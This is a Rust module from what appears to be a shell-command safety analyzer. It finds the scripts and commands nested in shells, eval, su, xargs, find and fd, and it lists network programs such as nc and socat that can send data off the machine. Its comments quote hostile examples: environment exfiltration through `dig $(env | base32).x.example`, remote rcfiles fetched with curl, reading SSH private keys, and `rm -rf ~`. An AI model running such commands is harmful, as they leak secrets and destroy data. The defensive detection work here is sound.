//! Commands that run other commands: shells (`bash -c`, `sh` reading stdin), `eval`, `su -c`,
//! `script -c`, `source /dev/stdin`, `alias`, `trap`, `xargs`, `find -exec`, `parallel` and
//! moreutils' `pee` and `mispipe`; awk,
//! sed, git, tar, zip, ssh, vim and others through [`embedded`]; tmux's commands and make's
//! recipes through [`runners`].
//!
//! Given a command's normalised argv (wrappers already stripped), [`nested`] says what else runs: a
//! script text to parse, an inner argv, a script that is only known at run time, or "the script comes
//! from stdin" (the caller then looks at here-docs, here-strings and `<` redirects).
//!
//! This module must not parse shell text; the walker does that with the right origin and depth.

use std::borrow::Cow;

use super::parse::Budget;
use super::wrappers::Field;
use super::{Origin, basename};
use super::{embedded, runners};
use crate::argv::{Parsed, options_end};
use crate::packs::places;

/// The text given to an argument that is a process substitution (`<(…)` / `>(…)`).
pub(super) const PROCESS_SUBSTITUTION_READ: &str = "<(…)";
/// See [`PROCESS_SUBSTITUTION_READ`].
pub(super) const PROCESS_SUBSTITUTION_WRITE: &str = ">(…)";

/// Shells whose `-c` payload, here-doc or stdin is a script. Nushell, elvish and xonsh have
/// languages of their own, but a plain command line (`rm -rf ~`) is the same in them, and what
/// the analysis cannot read of theirs is only known at run time.
pub const SHELLS: &[&str] = &[
    "sh", "bash", "rbash", "zsh", "dash", "ksh", "ksh93", "mksh", "lksh", "oksh", "loksh", "pdksh",
    "ash", "fish", "yash", "posh", "csh", "tcsh", "elvish", "nu", "xonsh",
];

/// Something else a command runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Nested {
    /// Shell text to parse with this origin.
    Script {
        /// The script.
        text: String,
        /// Where it came from.
        origin: Origin,
    },
    /// An argv run with this origin (`xargs CMD`, `find -exec CMD ;`).
    Command {
        /// The inner argv.
        fields: Vec<Field>,
        /// Where it came from.
        origin: Origin,
    },
    /// A script only known at run time.
    Dynamic(String),
    /// The script is read from standard input.
    Stdin,
    /// What runs in another directory than the command's own: the home a login shell starts in
    /// (`ssh host CMD`, `su - USER -c CMD`), relative to the command's directory.
    InDir {
        /// The directory (`~`, `~root`).
        dir: String,
        /// What runs there.
        nested: Box<Nested>,
    },
}

/// What `argv` (wrappers stripped) runs besides itself. `stdin` is the text the command line
/// feeds to its standard input, when it says (see [`super::SimpleCommand::stdin_text`]). The
/// scanners of program text burn `budget`'s fuel.
pub(super) fn nested(argv: &[Field], stdin: Option<&str>, budget: &Budget) -> Vec<Nested> {
    let Some((program, args)) = argv.split_first() else {
        return Vec::new();
    };
    let name = basename(&program.text);
    if SHELLS.contains(&name) {
        return shell(args).into_iter().chain(start_up_file(args)).collect();
    }
    match name {
        "eval" => eval(args).into_iter().collect(),
        "su" => dash_c(args, "sgGw", Origin::ShellString)
            .map(|found| login_home(args, found))
            .into_iter()
            .collect(),
        "runuser" => runuser(args).into_iter().collect(),
        "sg" => sg(args).into_iter().collect(),
        "at" | "batch" => at(args).into_iter().collect(),
        "script" => dash_c(args, "tTIOBEo", Origin::ShellString)
            .into_iter()
            .collect(),
        "source" | "." => source(args).into_iter().collect(),
        "alias" => alias(args),
        "trap" => trap(args).into_iter().collect(),
        "xargs" => xargs(args, stdin),
        "find" => find(args),
        "fd" | "fdfind" => fd(args),
        "parallel" => parallel(args, stdin),
        "pee" => pee(args),
        "mispipe" => mispipe(args),
        // byobu runs tmux (or, as byobu-screen, screen) with the arguments it is given.
        "tmux" | "byobu" | "byobu-tmux" => runners::tmux(args, stdin),
        "screen" | "byobu-screen" => runners::screen(args),
        "make" | "gmake" => runners::make(args, stdin),
        "psql" => runners::psql(args, stdin),
        "mysql" | "mariadb" => runners::mysql(args, stdin),
        "sqlite3" | "sqlite" | "duckdb" => runners::sqlite(args, stdin),
        "ed" => runners::ed(args, stdin),
        "sftp" => {
            let mut found = embedded::nested(name, args, budget);
            found.extend(runners::sftp(args, stdin));
            found
        }
        "ssh-copy-id" => runners::ssh_copy_id(args),
        "patch" => runners::applied_patch(name, args, stdin),
        "git" => {
            let mut found = embedded::nested(name, args, budget);
            found.extend(runners::applied_patch(name, args, stdin));
            found
        }
        _ => embedded::nested(name, args, budget),
    }
}

/// Programs that reach another host with what their arguments say: a substitution printing the
/// environment there (`dig $(env | base32).x.example`, `git clone https://x/$(env | base64)`)
/// sends it out, and a file they name may be sent (`curl -d @f`, `scp f h:`).
pub(crate) const NETWORK_PROGRAMS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "openssl",
    "http",
    "https",
    "xh",
    "aria2c",
    "fetch",
    "dig",
    "nslookup",
    "host",
    "drill",
    "ping",
    "ping6",
    "traceroute",
    "git",
    "gh",
    "scp",
    "sftp",
    "rsync",
    "ftp",
    "lftp",
    "pip",
    "pip3",
    "npm",
    "mail",
    "mailx",
    "sendmail",
    "aws",
    "gsutil",
    "gcloud",
    "az",
    "rclone",
    "s3cmd",
    "azcopy",
];

/// Whether `name ARGS` may reach another host: one of [`NETWORK_PROGRAMS`], but scp and rsync
/// only with an operand on one (`scp a b` copies here).
pub(crate) fn reaches_network(name: &str, args: &[String]) -> bool {
    match name {
        "scp" | "rsync" => args
            .iter()
            .any(|arg| !arg.starts_with('-') && !crate::argv::is_local_operand(arg)),
        _ => NETWORK_PROGRAMS.contains(&name),
    }
}

/// `text` as a script with this origin, or, when it holds a run-time expansion, as a script only
/// known at run time.
pub(super) fn script_or_dynamic(text: String, dynamic: bool, origin: Origin) -> Nested {
    if dynamic {
        Nested::Dynamic(text)
    } else {
        Nested::Script { text, origin }
    }
}

/// Words joined by spaces as a script with this origin (a shell joins them so: `eval a b`, `ssh
/// host a b`), or a script only known at run time when one holds a run-time expansion.
pub(super) fn joined<'a>(words: impl IntoIterator<Item = &'a Field>, origin: Origin) -> Nested {
    let mut text = String::new();
    let mut dynamic = false;
    for word in words {
        if !text.is_empty() {
            text.push(' ');
        }
        text.push_str(&word.text);
        dynamic |= word.dynamic;
    }
    script_or_dynamic(text, dynamic, origin)
}

fn is_process_substitution(field: &Field) -> bool {
    field.text == PROCESS_SUBSTITUTION_READ || field.text == PROCESS_SUBSTITUTION_WRITE
}

pub(super) fn is_stdin_path(text: &str) -> bool {
    matches!(text, "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
}

/// How a shell's arguments say where its script comes from.
struct ShellMode {
    /// `-c` (or `--command`): the operand at `index` is the script text.
    command_mode: bool,
    /// `-s`: the script is read from stdin whatever operands follow.
    stdin_mode: bool,
    /// Where the operands start, past the options.
    index: usize,
}

/// Reads a shell's options (`-c`, `-s`, `-o OPTION`, `--rcfile FILE`, `--`).
fn shell_mode(args: &[Field]) -> ShellMode {
    let mut command_mode = false;
    let mut stdin_mode = false;
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let text = arg.text.as_str();
        if text == "--" || text == "-" {
            index += 1;
            break;
        }
        if let Some(long) = text.strip_prefix("--") {
            if matches!(long, "rcfile" | "init-file") {
                index += 1;
            }
            // nushell's is `--commands`.
            if matches!(long, "command" | "commands") {
                command_mode = true;
            }
            index += 1;
            continue;
        }
        let cluster = text.strip_prefix('-').or_else(|| text.strip_prefix('+'));
        let Some(cluster) = cluster.filter(|c| !c.is_empty()) else {
            break;
        };
        for flag in cluster.chars() {
            match flag {
                'c' => command_mode = true,
                's' => stdin_mode = true,
                'o' | 'O' => index += 1,
                _ => {}
            }
        }
        index += 1;
    }
    ShellMode {
        command_mode,
        stdin_mode,
        index,
    }
}

/// bash's start-up file given on its command line (`--rcfile FILE`, `--init-file FILE`), which an
/// interactive shell runs first: from a process substitution (`bash --rcfile <(curl …) -i`), a
/// script only known at run time.
fn start_up_file(args: &[Field]) -> Option<Nested> {
    let at = args
        .iter()
        .take_while(|arg| arg.text != "--")
        .position(|arg| matches!(arg.text.as_str(), "--rcfile" | "--init-file"))?;
    let file = args.get(at + 1)?;
    is_process_substitution(file).then(|| Nested::Dynamic(file.text.clone()))
}

/// A shell's arguments: `-c PAYLOAD`, `-s`, no script (stdin), or a script file.
fn shell(args: &[Field]) -> Option<Nested> {
    let ShellMode {
        command_mode,
        stdin_mode,
        index,
    } = shell_mode(args);
    if command_mode {
        let payload = args.get(index)?;
        let text = with_positional(&payload.text, args.get(index + 1..).unwrap_or(&[]));
        return Some(script_or_dynamic(
            text,
            payload.dynamic,
            Origin::ShellString,
        ));
    }
    match args.get(index) {
        _ if stdin_mode => Some(Nested::Stdin),
        None => Some(Nested::Stdin),
        Some(file) if is_stdin_path(&file.text) => Some(Nested::Stdin),
        Some(file) if is_process_substitution(file) => Some(Nested::Dynamic(file.text.clone())),
        Some(_) => None,
    }
}

/// A `-c` script given the words after it as its positional parameters (`sh -c 'rm -rf "$1"' _
/// ~`: `$0` is `_`, `$1` the home): `set -- WORDS` in front of it, and `$0` (`${0}`) a variable
/// the script sets first. Each word keeps what it means to the shell that runs the line: one
/// with a run-time part stays one, a leading `~` the home. The script as it is when it names no
/// positional parameter or no word follows it.
fn with_positional(script: &str, words: &[Field]) -> String {
    const ZERO: &str = "__toolgate_arg0";
    let names_positional = script
        .as_bytes()
        .windows(2)
        .any(|pair| matches!(pair, [b'$', b'0'..=b'9' | b'@' | b'*' | b'{' | b'#']));
    // `find -exec sh -c '…' _ {} \;` and `xargs -I{}`: what the placeholder stands for is
    // read where it is, in the command that names it.
    let placeholder = words.iter().any(|word| word.text.contains("{}"));
    let Some((zero, rest)) = words
        .split_first()
        .filter(|_| names_positional && !placeholder)
    else {
        return script.to_owned();
    };
    let word = |field: &Field| {
        if field.dynamic {
            format!("\"{}\"", field.text.replace(['"', '\\'], ""))
        } else {
            super::interp::path_quote(&field.text)
        }
    };
    let mut text = format!("{ZERO}={}\nset --", word(zero));
    for field in rest {
        text.push(' ');
        text.push_str(&word(field));
    }
    text.push('\n');
    text.push_str(
        &script
            .replace("${0}", &format!("${{{ZERO}}}"))
            .replace("$0", &format!("${ZERO}")),
    );
    text
}

/// The file `argv` (wrappers stripped) runs as a shell script: a shell's script operand
/// (`bash x.sh`), what `source` or `.` reads (`. ./env.sh`), or the program itself when it is
/// named by a path (`./x`, `/tmp/a.sh`). The walker looks into it when the same command line
/// wrote it.
pub(super) fn script_file(argv: &[Field]) -> Option<&Field> {
    let (program, args) = argv.split_first()?;
    let name = basename(&program.text);
    if SHELLS.contains(&name) {
        let mode = shell_mode(args);
        return args
            .get(mode.index)
            .filter(|_| !mode.command_mode && !mode.stdin_mode);
    }
    if matches!(name, "source" | ".") {
        return args.iter().find(|f| !f.text.starts_with('-'));
    }
    program.text.contains('/').then_some(program)
}

/// `runuser -u USER [--] CMD …` runs the command itself; without `-u` it is `su`'s grammar
/// (`runuser -l USER -c CMD`).
fn runuser(args: &[Field]) -> Option<Nested> {
    let mut index = 0;
    let mut user = false;
    while let Some(arg) = args.get(index) {
        let text = arg.text.as_str();
        if text == "--" {
            index += 1;
            break;
        }
        let valued = match text {
            "-u" | "--user" => {
                user = true;
                true
            }
            "-g"
            | "-G"
            | "-s"
            | "-w"
            | "--group"
            | "--supp-group"
            | "--shell"
            | "--whitelist-environment" => true,
            _ if text.starts_with("--user=") || (text.starts_with("-u") && text.len() > 2) => {
                user = true;
                false
            }
            _ if text.starts_with('-') && text.len() > 1 => false,
            _ => break,
        };
        index += if valued { 2 } else { 1 };
    }
    if !user {
        return dash_c(args, "sgGwu", Origin::ShellString).map(|found| login_home(args, found));
    }
    let fields = args.get(index..).filter(|rest| !rest.is_empty())?.to_vec();
    Some(Nested::Command {
        fields,
        origin: Origin::Wrapper,
    })
}

/// What `su`'s (or `runuser`'s) `-c` runs, in the home directory of the user it logs in as
/// when it starts a login shell (`-`, `-l`, `--login`): `su - bob -c 'cat .ssh/id_rsa'` reads
/// `~bob/.ssh/id_rsa`; root's without a user named.
fn login_home(args: &[Field], found: Nested) -> Nested {
    const VALUED: &[&str] = &[
        "command",
        "session-command",
        "shell",
        "group",
        "supp-group",
        "whitelist-environment",
    ];
    let mut login = false;
    let mut user = None;
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        index += 1;
        let text = arg.text.as_str();
        if let Some(long) = text.strip_prefix("--").filter(|long| !long.is_empty()) {
            login |= long == "login";
            if VALUED.contains(&long) {
                index += 1;
            }
        } else if let Some(cluster) = text.strip_prefix('-').filter(|c| !c.is_empty()) {
            for (at, flag) in cluster.char_indices() {
                login |= flag == 'l';
                if "csgGwu".contains(flag) {
                    if cluster.len() == at + flag.len_utf8() {
                        index += 1;
                    }
                    break;
                }
            }
        } else if text == "-" {
            login = true;
        } else if text != "--" && user.is_none() {
            user = Some(arg);
        }
    }
    match home_of(user) {
        Some(dir) if login => Nested::InDir {
            dir,
            nested: Box::new(found),
        },
        _ => found,
    }
}

/// The home directory of `user` (root's when none is named) as `~NAME`; `None` when the user is
/// not a plain login name (`sudo -u '#0'`, `su "$U"`).
pub(super) fn home_of(user: Option<&Field>) -> Option<String> {
    let Some(user) = user else {
        return Some("~root".to_owned());
    };
    let plain = !user.text.is_empty()
        && user
            .text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    (plain && !user.dynamic).then(|| format!("~{}", user.text))
}

/// `sg [-] GROUP [-c] CMD`: the command is handed to `/bin/sh -c`, its words joined.
fn sg(args: &[Field]) -> Option<Nested> {
    let rest = match args.first() {
        Some(dash) if dash.text == "-" => args.get(2..)?,
        _ => args.get(1..)?,
    };
    let rest = match rest.first() {
        Some(flag) if flag.text == "-c" => rest.get(1..)?,
        _ => rest,
    };
    (!rest.is_empty()).then(|| joined(rest, Origin::ShellString))
}

/// `at TIME` and `batch` run later the shell script on their standard input; `-f FILE` names a
/// script file (not read, as `sh FILE`), and `-l`, `-d`, `-r`, `-c` list, delete or print jobs.
fn at(args: &[Field]) -> Option<Nested> {
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let Some(cluster) = arg.text.strip_prefix('-').filter(|c| !c.is_empty()) else {
            index += 1;
            continue;
        };
        for (at, flag) in cluster.char_indices() {
            match flag {
                'f' | 'l' | 'd' | 'r' | 'c' => return None,
                'q' | 't' => {
                    if cluster.get(at + 1..).unwrap_or("").is_empty() {
                        index += 1;
                    }
                    break;
                }
                _ => {}
            }
        }
        index += 1;
    }
    Some(Nested::Stdin)
}

fn eval(args: &[Field]) -> Option<Nested> {
    (!args.is_empty()).then(|| joined(args, Origin::Eval))
}

/// `-c CMD` / `--command=CMD` in a getopt-style argument list; `with_arg` lists the other short
/// options that take an argument.
fn dash_c(args: &[Field], with_arg: &str, origin: Origin) -> Option<Nested> {
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        let text = arg.text.as_str();
        if text == "--" {
            return None;
        }
        if let Some(long) = text.strip_prefix("--") {
            if let Some(value) = long
                .strip_prefix("command=")
                .or_else(|| long.strip_prefix("session-command="))
            {
                return Some(script_or_dynamic(value.to_owned(), arg.dynamic, origin));
            }
            if matches!(long, "command" | "session-command") {
                let payload = args.get(index + 1)?;
                return Some(script_or_dynamic(
                    payload.text.clone(),
                    payload.dynamic,
                    origin,
                ));
            }
            index += 1;
            continue;
        }
        if let Some(cluster) = text.strip_prefix('-').filter(|c| !c.is_empty()) {
            for (at, flag) in cluster.char_indices() {
                let rest = cluster.get(at + flag.len_utf8()..).unwrap_or("");
                if flag == 'c' {
                    if !rest.is_empty() {
                        return Some(script_or_dynamic(rest.to_owned(), arg.dynamic, origin));
                    }
                    let payload = args.get(index + 1)?;
                    return Some(script_or_dynamic(
                        payload.text.clone(),
                        payload.dynamic,
                        origin,
                    ));
                }
                if with_arg.contains(flag) {
                    if rest.is_empty() {
                        index += 1;
                    }
                    break;
                }
            }
        }
        index += 1;
    }
    None
}

fn source(args: &[Field]) -> Option<Nested> {
    let file = args
        .iter()
        .find(|f| !f.text.starts_with('-') || f.text == "-")?;
    if is_stdin_path(&file.text) || file.text == "-" {
        Some(Nested::Stdin)
    } else if is_process_substitution(file) {
        Some(Nested::Dynamic(file.text.clone()))
    } else {
        None
    }
}

fn alias(args: &[Field]) -> Vec<Nested> {
    alias_definitions(args)
        .map(|(_, value)| script_or_dynamic(value.text, value.dynamic, Origin::ShellString))
        .collect()
}

/// The `NAME=VALUE` definitions of `alias`'s arguments, each value with its argument's
/// expansion flag.
pub(super) fn alias_definitions(args: &[Field]) -> impl Iterator<Item = (&str, Field)> {
    args.iter().filter_map(|arg| {
        let (name, value) = arg.text.split_once('=')?;
        let value = Field {
            text: value.to_owned(),
            dynamic: arg.dynamic,
            valued: arg.valued,
        };
        Some((name, value))
    })
}

/// `trap ACTION SIGNAL…`: the action runs later, in this shell.
fn trap(args: &[Field]) -> Option<Nested> {
    let args = match args.first() {
        Some(first) if first.text == "--" => args.get(1..)?,
        Some(first) if first.text.starts_with('-') && first.text != "-" => return None,
        _ => args,
    };
    let [action, _signal, ..] = args else {
        return None;
    };
    if action.text.is_empty() || action.text == "-" {
        return None;
    }
    Some(script_or_dynamic(
        action.text.clone(),
        action.dynamic,
        Origin::ShellString,
    ))
}

/// xargs options: required-argument short options (BSD's `-J`, `-R`, `-S` too), optional-attached
/// ones, and long options that take a separate argument.
const XARGS_SHORT_ARG: &[char] = &['a', 'E', 'I', 'L', 'n', 'P', 's', 'd', 'J', 'R', 'S'];
const XARGS_LONG_ARG: &[&str] = &[
    "arg-file",
    "delimiter",
    "max-args",
    "max-procs",
    "max-chars",
    "process-slot-var",
];

/// Where xargs puts the arguments it reads from standard input, in the argv it runs: known only
/// at run time (`echo ~ | xargs rm -rf` removes the home directory).
pub(super) const XARGS_INPUT: &str = "$(xargs input)";

/// Most commands written out for the lines xargs reads with `-I`; past that, one with the input
/// unknown stands for the rest.
const MAX_XARGS_LINES: usize = 8;

/// The file a program reads instead of its stdin, when one is named (see [`xargs_arg_file`]):
/// what xargs hands on, sftp's batch of commands (`-b FILE`; `-b -` is stdin itself), the
/// patch `patch -i FILE` and `git apply FILE` apply.
pub(super) fn input_file(name: &str, args: &[Field]) -> Option<(String, Option<usize>)> {
    match name {
        "xargs" => xargs_arg_file(args),
        "sftp" => {
            let start = options_end(args, runners::SFTP_SHORT_ARG, &[]);
            let options: Vec<String> = args
                .iter()
                .take(start)
                .map(|option| option.text.clone())
                .collect();
            let parsed = Parsed::new(&options, runners::SFTP_SHORT_ARG, &[]);
            let file = *parsed.values(&['b'], &[]).last()?;
            if is_stdin_path(file) || file == "-" {
                return None;
            }
            Some(named_file(&options, file))
        }
        "patch" | "git" => runners::patch_file(name, args).map(|file| (file, None)),
        _ => None,
    }
}

/// The file xargs (its arguments `args`, after the program) reads the arguments it hands on
/// from instead of stdin (`-a FILE`, `--arg-file=FILE`; the last one given), as written, and
/// where it is a process substitution, which of `args`' `<(…)` it is (the last among the
/// options: `xargs -a <(echo a) -a <(echo b) cmd` reads `b`).
pub(super) fn xargs_arg_file(args: &[Field]) -> Option<(String, Option<usize>)> {
    let args = &arg_file_joined(args)[..];
    let start = options_end(args, XARGS_SHORT_ARG, XARGS_LONG_ARG);
    let options = args.get(..start).unwrap_or(&[]);
    let texts: Vec<String> = options.iter().map(|o| o.text.clone()).collect();
    let parsed = Parsed::new(&texts, XARGS_SHORT_ARG, XARGS_LONG_ARG);
    let file = parsed.values(&['a'], &["arg-file"]).last().copied()?;
    Some(named_file(&texts, file))
}

/// A file an option among `options` names, and where it is a process substitution, which of
/// their `<(…)` it is (the last of them: the last option given wins).
fn named_file(options: &[String], file: &str) -> (String, Option<usize>) {
    let substitutions = options
        .iter()
        .filter(|text| text.ends_with(PROCESS_SUBSTITUTION_READ))
        .count();
    let which = substitutions
        .checked_sub(1)
        .filter(|_| file == PROCESS_SUBSTITUTION_READ);
    (file.to_owned(), which)
}

/// xargs' arguments `args` with a `--arg-file=` (or an abbreviation of it) and the `<(…)` after
/// it made one (`--arg-file=<(…)`): bash reads them as one word, the parser as two.
fn arg_file_joined(args: &[Field]) -> Cow<'_, [Field]> {
    let split = |option: &Field, substitution: &Field| {
        let long = option
            .text
            .strip_prefix("--")
            .and_then(|o| o.strip_suffix('='));
        long.is_some_and(|long| !long.is_empty() && "arg-file".starts_with(long))
            && substitution.text == PROCESS_SUBSTITUTION_READ
    };
    if !args
        .windows(2)
        .any(|pair| matches!(pair, [option, substitution] if split(option, substitution)))
    {
        return Cow::Borrowed(args);
    }
    let mut joined: Vec<Field> = Vec::with_capacity(args.len());
    for field in args {
        match joined.last_mut() {
            Some(last) if split(last, field) => {
                last.text = format!("--arg-file={PROCESS_SUBSTITUTION_READ}");
                last.dynamic = true;
            }
            _ => joined.push(field.clone()),
        }
    }
    Cow::Owned(joined)
}

/// The command xargs runs, with the arguments it reads from stdin in place: the names when the
/// command line says what they are (`echo ~ | xargs rm -rf`, `find . -name .env | xargs cat`,
/// unless `-a FILE` gives them instead), [`XARGS_INPUT`] otherwise. `input` is what it reads
/// the arguments from, when known: its stdin, or the file `-a` names (see [`xargs_arg_file`]),
/// which the caller looks up.
fn xargs(args: &[Field], input: Option<&str>) -> Vec<Nested> {
    let args = &arg_file_joined(args)[..];
    let start = options_end(args, XARGS_SHORT_ARG, XARGS_LONG_ARG);
    let options = args.get(..start).unwrap_or(&[]);
    let fields = args.get(start..).unwrap_or(&[]).to_vec();
    if fields.is_empty() {
        return Vec::new();
    }
    let texts: Vec<String> = options.iter().map(|option| option.text.clone()).collect();
    let parsed = Parsed::new(&texts, XARGS_SHORT_ARG, XARGS_LONG_ARG);
    // xargs removes quotes and backslashes, and `-d`/`-E` change how it splits: such input is
    // left unknown rather than read differently from xargs.
    let splits_otherwise = parsed.has(&['d', 'E', 'e'], &["delimiter", "eof"]);
    let names: Vec<&str> = input
        .filter(|text| !splits_otherwise && !text.contains(['\'', '"', '\\']))
        .map(|text| text.split_whitespace().collect())
        .unwrap_or_default();
    let command = |fields| Nested::Command {
        fields,
        origin: Origin::Xargs,
    };
    let input = |text: &str| Field {
        text: text.to_owned(),
        dynamic: true,
        valued: false,
    };
    match xargs_replace(options) {
        // `-I {}`: each argument holding the replace string gets one input line there.
        Some(replace) => {
            let with = |name: &str| -> Vec<Field> {
                fields
                    .iter()
                    .map(|field| match field.text.contains(&replace) {
                        true => input(&field.text.replace(&replace, name)),
                        false => field.clone(),
                    })
                    .collect()
            };
            let mut out: Vec<Nested> = names
                .iter()
                .take(MAX_XARGS_LINES)
                .map(|name| command(with(name)))
                .collect();
            if names.is_empty() || names.len() > MAX_XARGS_LINES {
                out.push(command(with(XARGS_INPUT)));
            }
            out
        }
        None => {
            let mut fields = fields;
            match names.is_empty() {
                true => fields.push(input(XARGS_INPUT)),
                false => fields.extend(names.iter().map(|name| input(name))),
            }
            vec![command(fields)]
        }
    }
}

/// The replace string of xargs' options: `-I R`, `-IR`, `-i[R]` and `--replace[=R]` (`{}` by
/// default).
fn xargs_replace(options: &[Field]) -> Option<String> {
    let mut replace = None;
    let mut iter = options.iter();
    while let Some(option) = iter.next() {
        let text = option.text.as_str();
        if text == "-I" {
            replace = iter.next().map(|value| value.text.clone());
        } else if let Some(value) = text.strip_prefix("--replace") {
            replace = Some(value.strip_prefix('=').unwrap_or("{}").to_owned());
        } else if let Some(cluster) = text.strip_prefix('-').filter(|t| !t.starts_with('-')) {
            // The first flag of a cluster that takes a value ends it (`-n1I{}` is `-n 1I{}`).
            let at = cluster.find(|c| XARGS_SHORT_ARG.contains(&c) || c == 'i');
            match at.map(|at| cluster.split_at(at)) {
                Some((_, rest)) if rest.starts_with('I') => replace = Some(rest[1..].to_owned()),
                Some((_, rest)) if rest.starts_with('i') => {
                    replace = Some(
                        Some(&rest[1..])
                            .filter(|r| !r.is_empty())
                            .unwrap_or("{}")
                            .to_owned(),
                    );
                }
                _ => {}
            }
        }
    }
    replace.filter(|replace| !replace.is_empty())
}

fn find(args: &[Field]) -> Vec<Nested> {
    let mut out = Vec::new();
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        if !matches!(arg.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            continue;
        }
        let mut fields = Vec::new();
        for inner in iter.by_ref() {
            if inner.text == ";" || (inner.text == "+" && fields.last().is_some_and(is_braces)) {
                break;
            }
            fields.push(inner.clone());
        }
        if !fields.is_empty() {
            out.push(Nested::Command {
                fields,
                origin: Origin::FindExec,
            });
        }
    }
    out
}

/// fd's options that take a value (the pattern and the search paths are its operands).
const FD_VALUE_OPTIONS: &[&str] = &[
    "-e",
    "--extension",
    "-t",
    "--type",
    "-d",
    "--max-depth",
    "--min-depth",
    "--exact-depth",
    "-E",
    "--exclude",
    "-S",
    "--size",
    "-j",
    "--threads",
    "-c",
    "--color",
    "--changed-within",
    "--changed-before",
    "-o",
    "--owner",
    "--base-directory",
    "--path-separator",
    "--max-results",
    "--ignore-file",
    "--format",
    "--batch-size",
    "--and",
];

/// Most search paths of `fd` whose files its command is followed on.
const MAX_FD_PATHS: usize = 4;

/// `fd [OPTIONS] [PATTERN] [PATH…] -x|-X COMMAND…`: COMMAND (up to a `;`) runs on each file fd
/// finds, or on all of them at once, so it is followed once per search path with every file
/// below it (`PATH/**`) where it names the file (`{}`, `{/}`, `{//}`, `{.}`, `{/.}`) or, naming
/// none, after its arguments: `fd . ~ -x rm -rf` is `rm -rf ~/**`. Everything after `-x` is the
/// command, so `fd -x rm -rf {} . ~` runs `rm -rf FILE . ~`.
pub(crate) fn fd(args: &[Field]) -> Vec<Nested> {
    let exec = args
        .iter()
        .position(|arg| matches!(arg.text.as_str(), "-x" | "--exec" | "-X" | "--exec-batch"));
    let Some(exec) = exec else {
        return Vec::new();
    };
    let command: Vec<&Field> = args
        .get(exec + 1..)
        .unwrap_or_default()
        .iter()
        .take_while(|arg| arg.text != ";")
        .collect();
    if command.is_empty() {
        return Vec::new();
    }
    // fd's own arguments: before the command, and after the `;` that ends it.
    let after = args
        .get(exec + 1 + command.len()..)
        .unwrap_or_default()
        .iter()
        .skip(1);
    let before: Vec<String> = args
        .get(..exec)
        .unwrap_or_default()
        .iter()
        .chain(after)
        .map(|arg| arg.text.clone())
        .collect();
    fd_search_paths(&before)
        .into_iter()
        .take(MAX_FD_PATHS)
        .map(|path| {
            let files = format!("{}/**", path.trim_end_matches('/'));
            let placeholder = |text: &str| matches!(text, "{}" | "{/}" | "{//}" | "{.}" | "{/.}");
            let named = command.iter().any(|arg| placeholder(&arg.text));
            let mut fields: Vec<Field> = command
                .iter()
                .map(|arg| match placeholder(&arg.text) {
                    true => Field {
                        text: files.clone(),
                        dynamic: false,
                        valued: false,
                    },
                    false => (*arg).clone(),
                })
                .collect();
            if !named {
                fields.push(Field {
                    text: files,
                    dynamic: false,
                    valued: false,
                });
            }
            Nested::Command {
                fields,
                origin: Origin::FindExec,
            }
        })
        .collect()
}

/// The directories `fd ARGS` searches: its operands after the pattern and its `--search-path`
/// values; `.` when it names none.
pub(crate) fn fd_search_paths(args: &[String]) -> Vec<String> {
    let mut operands = Vec::new();
    let mut paths = Vec::new();
    let mut iter = args.iter();
    let mut options_done = false;
    while let Some(arg) = iter.next() {
        let text = arg.as_str();
        if options_done || !text.starts_with('-') || text == "-" {
            operands.push(text.to_owned());
        } else if text == "--" {
            options_done = true;
        } else if text == "--search-path" {
            paths.extend(iter.next().cloned());
        } else if let Some(path) = text.strip_prefix("--search-path=") {
            paths.push(path.to_owned());
        } else if FD_VALUE_OPTIONS.contains(&text) {
            iter.next();
        }
    }
    paths.extend(operands.into_iter().skip(1));
    if paths.is_empty() {
        paths.push(".".to_owned());
    }
    paths
}

/// Most of `parallel`'s runs followed, one per `:::` argument.
const MAX_PARALLEL_RUNS: usize = 8;

/// Most name patterns [`find_names`] gives.
const MAX_FIND_NAMES: usize = 16;

/// The start directories of `find ARGS` (`.` when none is given), after its leading options
/// (`-H`, `-L`, `-P`, `-O3`, `-D tree`).
pub(crate) fn find_roots(args: &[String]) -> Vec<&str> {
    find_split(args).0
}

/// The `find` whose `-exec` runs `commands[index]` (a command of [`Origin::FindExec`]): the
/// nearest `find` before it.
pub(crate) fn enclosing_find(
    commands: &[super::SimpleCommand],
    index: usize,
) -> Option<&super::SimpleCommand> {
    commands
        .iter()
        .take(index)
        .rev()
        .find(|candidate| candidate.name() == "find")
}

/// `find ARGS` split into its start directories (`.` when none is given; its leading options
/// `-H`, `-L`, `-P`, `-O3`, `-D tree` skipped) and its expression.
pub(crate) fn find_split(args: &[String]) -> (Vec<&str>, &[String]) {
    let mut roots = Vec::new();
    let mut at = 0;
    while let Some(arg) = args.get(at).map(String::as_str) {
        match arg {
            "-H" | "-L" | "-P" if roots.is_empty() => {}
            "-D" if roots.is_empty() => at += 1,
            _ if roots.is_empty() && arg.starts_with("-O") => {}
            "(" | "!" => break,
            _ if arg.starts_with('-') => break,
            root => roots.push(root),
        }
        at += 1;
    }
    if roots.is_empty() {
        roots.push(".");
    }
    (roots, args.get(at..).unwrap_or_default())
}

/// Which of what `find` selects is wanted: what it prints (`$(find …)`, `find … | xargs`),
/// what its `-exec` (`-execdir`, `-ok`, `-okdir`) commands are handed as `{}`, or what it
/// deletes (`-delete`, an `-exec` of rm, shred, unlink, srm or rmdir).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum FindOutput {
    Printed,
    Executed,
    Deleted,
}

/// Whether a program an `-exec` runs removes the files it is handed.
fn removes(program: &str) -> bool {
    matches!(
        basename(program),
        "rm" | "shred" | "unlink" | "srm" | "rmdir"
    )
}

/// The names `find ARGS` hands to `output`, as patterns matched the way the shell matches them
/// (`find . -name .env` prints `./**/.env`; `-name '*.json'` adds `.*.json` and `.json`, which
/// find matches and `*` does not): one per start directory and name its expression narrows
/// the wanted paths to ([`find_name_tests`]); none when it does not narrow them, or past
/// [`MAX_FIND_NAMES`].
